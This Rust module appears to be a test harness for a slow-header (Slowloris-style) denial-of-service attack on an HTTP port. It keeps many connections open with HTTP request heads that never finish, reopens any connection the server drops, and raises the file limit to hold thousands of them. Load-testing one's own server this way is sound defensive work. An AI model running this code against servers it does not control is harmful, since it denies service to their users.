//! An attack on an HTTP port: connections on which the head of a request never ends.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::runtime::Runtime;
use tokio::time::sleep;

use crate::{Result, SOON, eventually};

/// Between two bytes of a head.
const DRIP: Duration = Duration::from_millis(100);
/// Before one that was closed is opened again.
const AGAIN: Duration = Duration::from_millis(500);

/// The connections, on a thread of their own. They end with this value.
#[derive(Debug)]
pub struct Heads {
    runtime: Option<Runtime>,
    count: Arc<Count>,
}

#[derive(Debug, Default)]
struct Count {
    opened: AtomicUsize,
    closed: AtomicUsize,
}

impl Heads {
    /// Opens so many and keeps them open: what is closed is soon opened again. When this returns, each of them has sent
    /// the beginning of its head.
    ///
    /// # Errors
    /// It cannot be done here: too few files may be open, or nobody listens.
    pub async fn open(address: SocketAddr, connections: usize) -> Result<Self> {
        allow_files(connections * 2 + 1000)?;
        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build()?;
        let count = Arc::<Count>::default();
        for _ in 0..connections {
            runtime.spawn(drip(address, Arc::clone(&count)));
        }
        let heads = Self { runtime: Some(runtime), count };
        if eventually(SOON, || heads.opened() >= connections).await {
            Ok(heads)
        } else {
            Err(format!("{} of {connections} connections could be opened", heads.opened()).into())
        }
    }

    /// How many were opened so far, those in the place of others as well.
    pub fn opened(&self) -> usize {
        self.count.opened.load(Ordering::Relaxed)
    }

    /// How many were closed by the other end so far.
    pub fn closed(&self) -> usize {
        self.count.closed.load(Ordering::Relaxed)
    }
}

impl Drop for Heads {
    fn drop(&mut self) {
        // It may not be waited for inside another.
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_background();
        }
    }
}

async fn drip(address: SocketAddr, count: Arc<Count>) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(address).await {
            let began = stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: ").await;
            if began.is_ok() {
                count.opened.fetch_add(1, Ordering::Relaxed);
                let _ = until_closed(&mut stream).await;
                count.closed.fetch_add(1, Ordering::Relaxed);
            }
        }
        sleep(AGAIN).await;
    }
}

async fn until_closed(stream: &mut TcpStream) -> io::Result<()> {
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            read = stream.read(&mut answer) => if read? == 0 { return Ok(()) },
            () = sleep(DRIP) => stream.write_all(b"x").await?,
        }
    }
}

/// Has this process open so many files, if it may.
fn allow_files(wanted: usize) -> Result {
    let wanted = u64::try_from(wanted)?;
    let limit = getrlimit(Resource::Nofile);
    if limit.current.is_none_or(|current| current >= wanted) {
        return Ok(());
    }
    if limit.maximum.is_some_and(|maximum| maximum < wanted) {
        return Err(format!("only {:?} files may be open, and {wanted} are needed", limit.maximum).into());
    }
    Ok(setrlimit(Resource::Nofile, Rlimit { current: Some(wanted), maximum: limit.maximum })?)
}
